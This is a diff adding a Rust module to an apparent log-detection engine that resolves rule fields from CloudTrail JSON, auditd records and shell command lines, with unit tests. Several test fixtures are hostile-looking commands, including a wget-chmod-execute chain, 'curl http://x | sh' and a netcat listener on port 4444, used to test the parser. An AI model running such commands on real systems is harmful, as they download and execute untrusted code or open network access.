@@ -1,0 +1,291 @@
+//! What a rule's `field` may name: a column of its table, or a value derived from one.
+//!
+//! - `request.userName`, `response.ConsoleLogin`, `additional.MFAUsed`, `resources.ARN` on
+//!   `cloudtrail`: a dotted path into the JSON a column holds (arrays on the way are walked
+//!   element by element, so `request.containerDefinitions.command` reads every container).
+//! - `auditd.a0`, `auditd.type`, `auditd.exe`, ... on `host_events`: a key of the auditd records
+//!   of the event (every record, decoded: see [`auditq_parse::host::auditd_values`]).
+//! - `programs` on `commands` (and `host_events`): the programs a command line starts, one per
+//!   line, as `/name` when the line gives no directory (`cd /tmp; sudo ./x | sh` starts `/cd`,
+//!   `/sudo`, `./x`, `/sh`): what a process-creation log would call each process's image, as far
+//!   as the line shows it.
+//!
+//! A derived field can hold several values. They are given to the automaton one per line, and
+//! a test anchored at both ends (`equals`, `prefix`, `suffix`, `in`) holds when one value passes
+//! it: such tests are compiled with line anchors (see [`Accessor::multi`]).
+
+use std::borrow::Cow;
+
+use auditq_model::Table;
+
+use crate::engine::{EventView, table_fields};
+
+/// How a field is read from an event.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Accessor {
+    /// A column.
+    Column(String),
+    /// A path into the JSON of a column.
+    Json {
+        /// The column.
+        column: &'static str,
+        /// The keys, outermost first.
+        path: Vec<String>,
+    },
+    /// A key of the auditd records in `raw`.
+    Auditd(String),
+    /// The programs a command line starts.
+    Programs(&'static str),
+}
+
+/// JSON columns of `cloudtrail`, as a path names them.
+const JSON_COLUMNS: &[&str] = &["request", "response", "additional", "resources"];
+
+impl Accessor {
+    /// Reads a field name of `table`; the error lists what the table offers.
+    pub fn parse(table: Table, name: &str) -> Result<Accessor, String> {
+        let columns = table_fields(table);
+        if columns.contains(&name) {
+            return Ok(Accessor::Column(name.to_string()));
+        }
+        if let Some((column, path)) = name.split_once('.')
+            && table == Table::Cloudtrail
+            && let Some(column) = JSON_COLUMNS.iter().find(|c| **c == column)
+            && !path.is_empty()
+        {
+            return Ok(Accessor::Json {
+                column,
+                path: path.split('.').map(str::to_string).collect(),
+            });
+        }
+        if let Some(key) = name.strip_prefix("auditd.")
+            && table == Table::HostEvents
+            && !key.is_empty()
+        {
+            return Ok(Accessor::Auditd(key.to_string()));
+        }
+        if name == "programs" && matches!(table, Table::Commands | Table::HostEvents) {
+            return Ok(Accessor::Programs("cmd"));
+        }
+        let derived = match table {
+            Table::Cloudtrail => {
+                ", or request.*, response.*, additional.*, resources.* (JSON paths)"
+            }
+            Table::HostEvents => ", or auditd.KEY (a key of the auditd records), programs",
+            Table::Commands => ", or programs",
+            _ => "",
+        };
+        Err(format!(
+            "unknown field {name:?} of {table}; it has {}{derived}",
+            columns.join(", ")
+        ))
+    }
+
+    /// Whether the field can hold several values (one per line).
+    pub fn multi(&self) -> bool {
+        !matches!(self, Accessor::Column(_))
+    }
+
+    /// The field's value in `event` (several values one per line); `None` when absent.
+    pub fn read<'e>(&self, event: &'e dyn EventView) -> Option<Cow<'e, str>> {
+        match self {
+            Accessor::Column(name) => event.field(name),
+            Accessor::Json { column, path } => {
+                let text = event.field(column)?;
+                let value: serde_json::Value = serde_json::from_str(&text).ok()?;
+                let mut found = Vec::new();
+                walk(&value, path, &mut found);
+                joined(found)
+            }
+            Accessor::Auditd(key) => {
+                let raw = event.field("raw")?;
+                if event.field("program").as_deref() != Some("auditd") {
+                    return None;
+                }
+                joined(auditq_parse::host::auditd_values(&raw, key))
+            }
+            Accessor::Programs(column) => joined(programs(&event.field(column)?)),
+        }
+    }
+}
+
+fn joined(values: Vec<String>) -> Option<Cow<'static, str>> {
+    (!values.is_empty()).then(|| Cow::Owned(values.join("\n")))
+}
+
+/// The values at `path` under `value`; arrays are walked element by element.
+fn walk(value: &serde_json::Value, path: &[String], found: &mut Vec<String>) {
+    use serde_json::Value;
+    match (value, path.split_first()) {
+        (Value::Array(items), _) => items.iter().for_each(|item| walk(item, path, found)),
+        (Value::Object(map), Some((key, rest))) => {
+            if let Some(inner) = map.get(key) {
+                walk(inner, rest, found);
+            }
+        }
+        (_, Some(_)) | (Value::Null, None) => {}
+        (Value::String(text), None) => found.push(text.clone()),
+        (other, None) => found.push(other.to_string()),
+    }
+}
+
+/// Programs that run the program named after their options.
+const WRAPPERS: &[&str] = &[
+    "sudo", "doas", "env", "nohup", "nice", "timeout", "time", "exec", "command", "busybox",
+    "setsid", "stdbuf", "xargs", "strace", "chroot", "su",
+];
+
+/// Whether a wrapper's option is followed by its value as a separate word.
+fn takes_value(wrapper: &str, option: &str) -> bool {
+    let with_value: &[&str] = match wrapper {
+        "sudo" | "doas" => &["-u", "-g", "-C", "-p", "-r", "-t", "-U", "-h", "-D", "-T"],
+        "su" => &["-c", "-s", "-g", "-G", "-w"],
+        "nice" => &["-n"],
+        "env" => &["-u", "-C", "-S"],
+        "timeout" => &["-s", "-k"],
+        "xargs" => &["-I", "-n", "-P", "-d", "-a", "-E", "-L", "-s"],
+        "strace" => &["-o", "-e", "-p", "-s", "-u"],
+        _ => &[],
+    };
+    with_value.contains(&option)
+}
+
+/// The programs a command line starts, in order, as `/name` or the path written.
+pub fn programs(line: &str) -> Vec<String> {
+    let mut found = Vec::new();
+    for segment in line.split([';', '|', '&', '\n', '`', '(', ')', '{', '}']) {
+        let segment = segment.trim_start_matches('$');
+        let mut words = segment
+            .split_whitespace()
+            .map(|w| w.trim_matches(['"', '\'']));
+        let mut expect_program = true;
+        let mut wrapper: Option<&str> = None;
+        let mut skip_value = false;
+        for word in words.by_ref() {
+            if word.is_empty() {
+                continue;
+            }
+            if !expect_program {
+                break;
+            }
+            let assignment = word.contains('=') && !word.starts_with(['=', '/', '.', '-']);
+            if assignment {
+                continue;
+            }
+            if skip_value {
+                skip_value = false;
+                continue;
+            }
+            if let Some(wrapper) = wrapper
+                && (word.starts_with('-') || word.parse::<f64>().is_ok())
+            {
+                // Options of a wrapper (`sudo -u root`, `timeout 5`), and the value of those
+                // that take one.
+                skip_value = takes_value(wrapper, word);
+                continue;
+            }
+            if matches!(
+                word,
+                "if" | "then" | "else" | "do" | "while" | "until" | "!"
+            ) {
+                continue;
+            }
+            let program = if word.contains('/') {
+                word.to_string()
+            } else {
+                format!("/{word}")
+            };
+            let name = word.rsplit('/').next().unwrap_or(word);
+            found.push(program);
+            if WRAPPERS.contains(&name) {
+                wrapper = Some(name);
+            } else {
+                expect_program = false;
+            }
+        }
+    }
+    found
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::engine::FieldsEvent;
+    use std::collections::BTreeMap;
+
+    #[test]
+    fn programs_of_command_lines() {
+        let cases: &[(&str, &[&str])] = &[
+            ("ls -la", &["/ls"]),
+            (
+                "cd /tmp; wget http://x/a && chmod +x a; ./a",
+                &["/cd", "/wget", "/chmod", "./a"],
+            ),
+            ("sudo -u root /usr/bin/id", &["/sudo", "/usr/bin/id"]),
+            ("sudo -n id", &["/sudo", "/id"]),
+            ("timeout 5 nc -l 4444", &["/timeout", "/nc"]),
+            ("curl -s http://x | sh", &["/curl", "/sh"]),
+            ("LANG=C nohup perl x.pl &", &["/nohup", "/perl"]),
+            ("echo $(whoami)", &["/echo", "/whoami"]),
+            ("", &[]),
+        ];
+        for (line, expected) in cases {
+            assert_eq!(programs(line), *expected, "{line}");
+        }
+    }
+
+    #[test]
+    fn json_paths_walk_arrays() {
+        let event = FieldsEvent {
+            table: Table::Cloudtrail,
+            fields: BTreeMap::from([(
+                "request".to_string(),
+                r#"{"userName":"bob","containerDefinitions":[{"command":["sh","-c","id"]},{"command":["ls"]}],"n":3,"z":null}"#.to_string(),
+            )]),
+        };
+        let read = |name: &str| {
+            Accessor::parse(Table::Cloudtrail, name)
+                .unwrap_or_else(|e| panic!("{e}"))
+                .read(&event)
+                .map(|v| v.into_owned())
+        };
+        assert_eq!(read("request.userName").as_deref(), Some("bob"));
+        assert_eq!(
+            read("request.containerDefinitions.command").as_deref(),
+            Some("sh\n-c\nid\nls")
+        );
+        assert_eq!(read("request.n").as_deref(), Some("3"));
+        assert_eq!(read("request.z"), None);
+        assert_eq!(read("request.missing"), None);
+        assert_eq!(read("event_name"), None);
+        assert!(Accessor::parse(Table::Cloudtrail, "userIdentity.x").is_err());
+        assert!(Accessor::parse(Table::Commands, "request.x").is_err());
+    }
+
+    #[test]
+    fn auditd_keys_are_decoded() {
+        let raw = "type=SYSCALL msg=audit(1.0:7): arch=c000003e syscall=59 a0=55d1 exe=\"/usr/bin/wget\" key=(null)\n\
+                   type=EXECVE msg=audit(1.0:7): argc=3 a0=\"wget\" a1=2D71 a2=\"http://x/a b\"\n\
+                   type=PATH msg=audit(1.0:7): item=0 name=2F746D702F6120622E7368";
+        let event = FieldsEvent {
+            table: Table::HostEvents,
+            fields: BTreeMap::from([
+                ("raw".to_string(), raw.to_string()),
+                ("program".to_string(), "auditd".to_string()),
+            ]),
+        };
+        let read = |key: &str| {
+            Accessor::Auditd(key.to_string())
+                .read(&event)
+                .map(|v| v.into_owned())
+        };
+        assert_eq!(read("type").as_deref(), Some("SYSCALL\nEXECVE\nPATH"));
+        // SYSCALL's a0 is a number, EXECVE's a1 hex-encoded text.
+        assert_eq!(read("a0").as_deref(), Some("55d1\nwget"));
+        assert_eq!(read("a1").as_deref(), Some("-q"));
+        assert_eq!(read("a2").as_deref(), Some("http://x/a b"));
+        assert_eq!(read("exe").as_deref(), Some("/usr/bin/wget"));
+        assert_eq!(read("name").as_deref(), Some("/tmp/a b.sh"));
+        assert_eq!(read("uid"), None);
+    }
+}
